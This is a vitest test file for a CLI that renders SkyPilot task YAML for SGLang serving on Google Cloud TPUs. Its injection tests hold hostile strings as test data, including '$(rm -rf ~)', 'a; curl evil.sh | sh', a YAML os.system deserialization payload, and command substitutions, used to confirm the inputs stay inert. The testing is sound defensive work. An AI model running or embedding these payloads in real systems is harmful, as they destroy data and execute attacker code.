import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { describe, expect, it } from "vitest";
import { flagName, flagsToConfig, type SpecFlags } from "../../src/cli/config-flags.js";
import { type Config, type ConfigSource, resolveConfig } from "../../src/core/config.js";
import { renderTask } from "../../src/core/plan.js";
import { renderTemplate } from "../../src/core/render.js";
import { validateSkyTask } from "../../src/core/sky-task-schema.js";
import { firstLaunch, type PlanDoc, runCli } from "../helpers/run-cli.js";

const TEMPLATES = join(import.meta.dirname, "..", "..", "templates");
const V6E = readFileSync(join(TEMPLATES, "v6e.sky.yaml"), "utf8");
const V7 = readFileSync(join(TEMPLATES, "v7.sky.yaml"), "utf8");

function config(f: SpecFlags, fileData?: unknown): Config {
  const sources: ConfigSource[] = [];
  if (fileData !== undefined) sources.push({ label: "tpu-deploy.yaml", keyName: (p) => p, data: fileData });
  sources.push({ label: "flags", keyName: flagName, data: flagsToConfig(f) });
  const r = resolveConfig(sources, {});
  if (!r.ok) throw new Error(JSON.stringify(r.issues));
  return r.config;
}

function render(c: Config, zone = c.tpu.zones[0] ?? "") {
  const template = c.tpu.generation === "v7" ? V7 : V6E;
  const r = renderTask(c, { text: template, name: `templates/${c.tpu.generation}.sky.yaml` }, zone);
  if (!r.ok) throw new Error(r.errors.join("\n"));
  // The text is what sky reads: it must say exactly what the task object says.
  expect(parse(r.yaml)).toEqual(r.task);
  expect(validateSkyTask(r.task)).toEqual([]);
  return r;
}

type Task = {
  name: string;
  num_nodes: number;
  resources: Record<string, unknown>;
  envs: Record<string, string>;
  secrets?: Record<string, null>;
  config?: { gcp: { managed_instance_group: Record<string, unknown>; placement_policy?: string } };
  setup: string;
  run: string;
};

describe("representative tasks", () => {
  it("v6e-8, one host, on demand", async () => {
    const r = render(config({}));
    const task = r.task as Task;
    expect(task.name).toBe("sgl-v6e-1");
    expect(task.num_nodes).toBe(1);
    expect(task.resources).toEqual({
      infra: "gcp/us-east5/us-east5-a",
      accelerators: "tpu-v6e-8",
      accelerator_args: { tpu_vm: true, runtime_version: "v2-alpha-tpuv6e" },
      use_spot: false,
      labels: { "tpu-deploy": "sgl-v6e-1", "tpu-deploy-replica": "0", "managed-by": "tpu-deploy" },
    });
    // Null placeholders drop their key: no ports, no secrets.
    expect(Object.keys(task)).toEqual(["name", "num_nodes", "resources", "envs", "setup", "run"]);
    expect(task.envs).toEqual({
      TPD_SGLANG_REPO: "https://github.com/sgl-project/sglang-jax.git",
      TPD_SGLANG_REF: "cddbf6f1",
      TPD_PYTHON: "3.12",
      TPD_SGLANG_DIR: "~/sglang-jax",
      TPD_SETUP_MARKER: "~/sglang-jax/.venv/.tpu-deploy-installed-cddbf6f1",
    });
    expect(task.setup).toMatch(/uv venv --python "\$TPD_PYTHON"/);
    expect(task.setup).toMatch(/git checkout --quiet "\$TPD_SGLANG_REF"/);
    expect(r.yaml).toMatch(/^# Rendered by tpu-deploy from templates\/v6e\.sky\.yaml/);
    await expect(r.yaml).toMatchFileSnapshot("../__snapshots__/render/v6e-8.sky.yaml");
  });

  it("--nodes 2 on v6e: one single-host v6e-4 per replica, SkyPilot num_nodes 1, the replica in its labels", async () => {
    const c = config({ nodes: 2 });
    const r = render(c);
    const task = r.task as Task;
    expect(task.name).toBe("sgl-v6e-2");
    expect(task.num_nodes).toBe(1);
    expect(task.resources.accelerators).toBe("tpu-v6e-4");
    await expect(r.yaml).toMatchFileSnapshot("../__snapshots__/render/2x-v6e-4.sky.yaml");
    const second = renderTask(c, { text: V6E, name: "templates/v6e.sky.yaml" }, "us-east5-b", undefined, 1);
    expect(second.ok && (second.task as Task).resources).toMatchObject({
      infra: "gcp/us-east5/us-east5-b",
      labels: { "tpu-deploy": "sgl-v6e-2", "tpu-deploy-replica": "1" },
    });
  });

  it("v6e-32 on spot, with secrets and a public port", async () => {
    const c = config({
      name: "llama-serve",
      accelerator: "v6e-32",
      spot: true,
      zone: ["us-central1-b", "us-east5-a"],
      secret: ["HF_TOKEN"],
      apiKeySecret: "SGLANG_API_KEY",
      public: true,
      env: ["JAX_COMPILATION_CACHE_DIR=/mnt/cache/jit"],
      model: "meta-llama/Llama-3.1-70B-Instruct",
    });
    const r = render(c);
    const task = r.task as Task;
    expect(task.num_nodes).toBe(1);
    expect(task.resources).toMatchObject({
      infra: "gcp/us-central1/us-central1-b",
      accelerators: "tpu-v6e-32",
      use_spot: true,
      ports: [30000],
      labels: { "tpu-deploy": "llama-serve", "tpu-deploy-replica": "0", "managed-by": "tpu-deploy" },
    });
    // No secrets at all: SkyPilot would write their values into the job driver file on the head.
    expect(task).not.toHaveProperty("secrets");
    // server.env goes to `sky launch --env`, not into the file.
    expect(r.yaml).not.toContain("JAX_COMPILATION_CACHE_DIR");
    await expect(r.yaml).toMatchFileSnapshot("../__snapshots__/render/v6e-32-spot-secrets-public.sky.yaml");
  });

  it("v7, 2 VMs, with the managed instance group's run_duration", async () => {
    const c = config({ tpu: "v7", nodes: 2 }, { tpu: { maxRunHours: 24 } });
    const r = render(c);
    const task = r.task as Task;
    expect(task.name).toBe("sgl-v7-2");
    expect(task.num_nodes).toBe(2);
    expect(task.resources).toEqual({
      infra: "gcp/us-central1/us-central1-c",
      instance_type: "tpu7x-standard-4t",
      use_spot: false,
      labels: { "tpu-deploy": "sgl-v7-2", "tpu-deploy-replica": "0", "managed-by": "tpu-deploy" },
    });
    // The TPU7x-capable SkyPilot provisions a Flex-start instance group with a workload policy: it needs the
    // slice's topology, and Compute Engine refuses a placement policy on it.
    expect(task.config).toEqual({
      gcp: {
        managed_instance_group: {
          run_duration: 86_400,
          provision_timeout: 900,
          accelerator_topology: "2x2x2",
          accelerator_topology_mode: "AUTO_CONNECT",
        },
      },
    });
    await expect(r.yaml).toMatchFileSnapshot("../__snapshots__/render/v7-2vm.sky.yaml");
  });

  it("renders each zone's infra, and spot can be switched off per launch", () => {
    const c = config({ spot: true, zone: ["us-east5-b", "europe-west4-a"] });
    const t = renderTask(c, { text: V6E, name: "v6e" }, "europe-west4-a", false);
    expect(t.ok && (t.task as Task).resources).toMatchObject({ infra: "gcp/europe-west4/europe-west4-a", use_spot: false });
  });
});

// Strings that would break out of YAML or a shell if anything concatenated them into text.
const NASTY = [
  `it's "quoted"`,
  "$(rm -rf ~)",
  "`reboot`",
  "a; curl evil.sh | sh",
  "line1\nevil_key: 1\nline3",
  "x\n---\nname: pwned",
  "key: value",
  "- item",
  "# not a comment",
  "&anchor",
  "*alias",
  "!!python/object/apply:os.system ['id']",
  "{a: 1}",
  "[1, 2]",
  "true",
  "null",
  "0x1F",
  "1e3",
  "~",
  "",
  " leading and trailing ",
  "tab\there",
  "back\\slash",
  "ünïcödé ✓ 模型",
  "${name}",
  "${secrets}",
  "%TAG ! tag:evil",
];

describe("inputs stay inert", () => {
  it.each(NASTY)("sglang.ref / repo / python %j parse back byte for byte, never as new keys", (value) => {
    const c = config({}, { sglang: { ref: value || "x", repo: value || "x", python: value || "x" } });
    const r = render(c);
    const task = parse(r.yaml) as Task;
    const want = value || "x";
    expect(task.envs).toMatchObject({ TPD_SGLANG_REPO: want, TPD_SGLANG_REF: want, TPD_PYTHON: want });
    expect(Object.keys(task)).toEqual(["name", "num_nodes", "resources", "envs", "setup", "run"]);
    expect(Object.keys(task.resources)).toEqual(["infra", "accelerators", "accelerator_args", "use_spot", "labels"]);
    // The setup script is the template's, untouched.
    expect(task.setup).toBe((parse(V6E) as Task).setup);
  });

  it("every value of a placeholder, of any type, parses back exactly", () => {
    const template = "a: ${a}\nb: ${b}\nc: ${c}\nd: ${d}\n";
    const values = {
      a: NASTY.join("\n"),
      b: Object.fromEntries(NASTY.map((v, i) => [`K${i}`, v])),
      c: [...NASTY],
      d: { nested: { list: NASTY.slice(0, 5), n: 7, yes: true } },
    };
    const r = renderTemplate(template, values, "t.yaml");
    if (!r.ok) throw new Error(r.errors.join("\n"));
    expect(parse(r.yaml)).toEqual(values);
    expect(Object.keys(parse(r.yaml) as object)).toEqual(["a", "b", "c", "d"]);
  });

  it("a value that looks like a placeholder is not substituted again", () => {
    const r = renderTemplate("a: ${a}\nb: ${b}\n", { a: { inner: "${b}" }, b: "secret-ish" }, "t.yaml");
    expect(r.ok && r.task).toEqual({ a: { inner: "${b}" }, b: "secret-ish" });
  });

  it("model names, server args and env values never reach the task file", () => {
    const c = config({
      model: NASTY[1] ?? "",
      serverArg: ["--served-model-name=$(id)", "--chat-template=a;b"],
      env: ["EVIL=`reboot`\nx: 1"],
    });
    const r = render(c);
    expect(r.yaml).not.toContain("$(rm");
    expect(r.yaml).not.toContain("$(id)");
    expect(r.yaml).not.toContain("reboot");
  });
});

describe("templates are checked before anything launches", () => {
  it.each([
    ["an unknown placeholder", V6E.replace("use_spot: ${spot}", "use_spot: ${spotty}"), /unknown placeholder \$\{spotty\}/],
    ["a placeholder that is not a whole value", V6E.replace("envs: ${envs}", "envs:\n  - ${name}"), /must be the whole value of a key/],
    ["an unknown top-level key", `${V6E}rum: echo hi\n`, /task: unsupported field 'rum'/],
    [
      "an unknown resources key",
      V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  topology: 4x4"),
      /resources: unsupported field 'topology'/,
    ],
    [
      "an unknown accelerator_args key",
      V6E.replace("    tpu_vm: true", "    tpu_vm: true\n    topology: 4x8"),
      /resources\.accelerator_args: unsupported field 'topology'/,
    ],
    ["infra next to zone", V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  zone: us-east5-a"), /cannot specify both infra and/],
    ["a non-boolean use_spot", V6E.replace("use_spot: ${spot}", "use_spot: yes please"), /use_spot must be a boolean/],
    ["broken YAML", "name: [unclosed\n", /my\.sky\.yaml: /],
    ["a non-mapping task", "- just\n- a list\n", /a task must be a YAML mapping/],
  ])("refuses %s", (_what, text, error) => {
    const r = renderTask(config({}), { text, name: "my.sky.yaml" }, "us-east5-a");
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors.join("\n")).toMatch(error);
    expect(r.errors.every((e) => e.startsWith("my.sky.yaml: "))).toBe(true);
  });

  it("accepts a template that adds keys SkyPilot knows", () => {
    const text = V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  disk_tier: best").replace(
      "envs: ${envs}",
      "file_mounts:\n  /mnt/x: gs://bucket\nenvs: ${envs}",
    );
    const r = renderTask(config({}), { text, name: "my.sky.yaml" }, "us-east5-a");
    expect(r.ok && r.task).toMatchObject({ resources: { disk_tier: "best" }, file_mounts: { "/mnt/x": "gs://bucket" } });
  });

  it("the shipped templates use no placeholder the renderer does not fill", () => {
    for (const c of [config({}), config({ tpu: "v7" })]) {
      expect(() => render(c)).not.toThrow();
    }
  });

  it.each([
    ["up", ["--dry-run"]],
    ["render", []],
  ])("%s --template with an unknown placeholder or key exits 2 before any launch", async (command, extra) => {
    for (const [text, error] of [
      [V6E.replace("name: ${name}", "name: ${clusterName}"), "unknown placeholder ${clusterName}"],
      [V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  tpu_topology: 4x4"), "resources: unsupported field 'tpu_topology'"],
      [V6E.replace("    tpu_vm: true", "    tpu_vm: true\n    reserved: true"), "accelerator_args: unsupported field 'reserved'"],
      [`${V6E}service: {replicas: 2}\nreplicas: 2\n`, "task: unsupported field 'replicas'"],
    ] as const) {
      const res = await runCli([command ?? "", "--template", "bad.sky.yaml", "--json", ...extra], { files: { "bad.sky.yaml": text } });
      expect(res.code).toBe(2);
      const doc = JSON.parse(res.stdout) as { ok: boolean; error: { code: string; message: string } };
      expect(doc.ok).toBe(false);
      expect(doc.error.code).toBe("config_invalid");
      expect(doc.error.message).toContain(error);
    }
  });

  it("up --template renders the user's template (a good one works)", async () => {
    const text = V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  disk_tier: best");
    const res = await runCli(["up", "--dry-run", "--json", "--template", "good.sky.yaml"], { files: { "good.sky.yaml": text } });
    expect(res.code).toBe(0);
    const doc = JSON.parse(res.stdout) as { result: PlanDoc };
    expect(firstLaunch(doc.result).task.resources.disk_tier).toBe("best");
  });

  it("a missing --template file exits 2", async () => {
    const res = await runCli(["render", "--template", "nope.sky.yaml"]);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/template .*nope\.sky\.yaml does not exist/);
  });

  it("a template named in the config file is found next to the file", async () => {
    const text = V6E.replace("  use_spot: ${spot}", "  use_spot: ${spot}\n  disk_tier: medium");
    const res = await runCli(["render", "-c", "conf/tpu.yaml"], {
      files: {
        "conf/tpu.yaml": "launch:\n  template: t.sky.yaml\n",
        "conf/t.sky.yaml": text,
        // A decoy in the cwd: a relative path in the file is relative to the file.
        "t.sky.yaml": "name: ${wrongTemplate}\n",
      },
    });
    expect(res.stderr).toBe("");
    expect(res.code).toBe(0);
    expect((parse(res.stdout) as Task).resources.disk_tier).toBe("medium");
  });
});
